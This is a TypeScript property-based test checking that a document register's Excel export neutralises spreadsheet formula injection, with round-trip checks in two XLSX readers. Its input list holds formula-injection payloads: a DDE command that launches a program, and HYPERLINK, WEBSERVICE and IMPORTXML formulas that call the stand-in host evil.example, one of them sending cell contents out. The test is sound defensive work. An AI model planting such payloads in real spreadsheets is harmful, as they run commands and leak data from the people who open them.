import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import * as XLSX from '@e965/xlsx';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { documentRows } from '../kit/documents.ts';
import { given } from '../kit/effects.ts';
import { seed } from '../kit/seed.ts';
import { world } from '../kit/world.ts';

/** With what a cell begins that a spreadsheet may take for more than text. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '\ufeff',
  '\ufeff=',
  "'=",
  '"=',
  ';=',
  ',=',
  '|',
  '%',
  '\u200b=',
  '\u202e=',
];
const rests = [
  'HYPERLINK("http://evil.example","x")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  '1+1',
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  'WEBSERVICE("http://evil.example")',
  'a"b""c',
  'a\nb',
  'a\r\nb',
  'a\tb',
  'a,b;c',
  '_x0041__x000D_',
  '<b>&amp;</b>]]>',
  '  两端空格  ',
  '2026-08-01',
  '007',
  '1E5',
  'TRUE',
  '密\u2028收',
];
const cell = fc
  .tuple(fc.constantFrom('', ...beginnings), fc.constantFrom(...rests), fc.string({ unit: 'grapheme', maxLength: 12 }))
  .map(([beginning, rest, tail]) => `${beginning}${rest}${tail}`)
  .filter((text) => !text.includes('\0') && text.isWellFormed());

test('of 3,000 cells none becomes a formula, a link or a number, and each comes back as it was written', async () => {
  const w = await world();
  const titles = [...new Set(fc.sample(cell, { seed, numRuns: 4000 }))].slice(0, 3000);
  expect(titles).toHaveLength(3000);
  const rows = titles.map((title, n) => documentRows({ id: `t${n}`, title, level: 3, scope: ['all'] }, []));
  for (let at = 0; at < rows.length; at += 250) await given(w, rows.slice(at, at + 250).flat());
  const { body: file } = await w.get('officer', '/api/registers/documents.xlsx');

  // As the file has it: no formula, no link, no number anywhere on the sheet.
  const sheet = partOf(file, /^xl\/worksheets\/sheet1\.xml$/);
  expect(sheet).not.toMatch(/<f[ >]|<hyperlink|t="(n|b|str|e)"/);

  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file as never);
  const odd: unknown[] = [];
  const read = new Set<unknown>();
  book.worksheets[0]?.eachRow((row) =>
    row.eachCell(({ type, formula, hyperlink, numFmt, value }) => {
      const plain = type === ExcelJS.ValueType.String && numFmt === '@' && !formula && !hyperlink;
      if (!plain && value !== null) odd.push(value);
      read.add(value);
    }),
  );
  expect(odd).toEqual([]);

  // As another reader has it.
  const other = XLSX.read(file, { cellFormula: true });
  const cells = Object.entries(other.Sheets[other.SheetNames[0] as string] as XLSX.WorkSheet);
  const texts = cells.flatMap(([name, one]) => (name.startsWith('!') ? [] : [one as XLSX.CellObject]));
  expect(texts.filter(({ t, f, l }) => t !== 's' || f !== undefined || l !== undefined)).toEqual([]);
  const shown = new Set(texts.map(({ v }) => v));
  // The first reader splits a character now and then at the border of what it takes in at a time, the second makes one line end of two.
  const lost = titles.filter((title) => !read.has(title));
  expect(lost.length).toBeLessThan(20);
  expect(lost.filter((title) => !shown.has(title.replaceAll('\r\n', '\n')))).toEqual([]);
});

/** The text of a part of a zip archive, found by the list at its end. */
function partOf(archive: Buffer, name: RegExp): string {
  let at = archive.readUInt32LE(archive.lastIndexOf('PK\x05\x06') + 16);
  for (; archive.readUInt32LE(at) === 0x02014b50; ) {
    const [size, named, extra, said] = [
      archive.readUInt32LE(at + 20),
      archive.readUInt16LE(at + 28),
      archive.readUInt16LE(at + 30),
      archive.readUInt16LE(at + 32),
    ];
    const called = archive.toString('utf8', at + 46, at + 46 + named);
    const local = archive.readUInt32LE(at + 42);
    if (name.test(called)) {
      const from = local + 30 + archive.readUInt16LE(local + 26) + archive.readUInt16LE(local + 28);
      return inflateRawSync(archive.subarray(from, from + size)).toString('utf8');
    }
    at += 46 + named + extra + said;
  }
  throw new Error(`no part ${name}`);
}
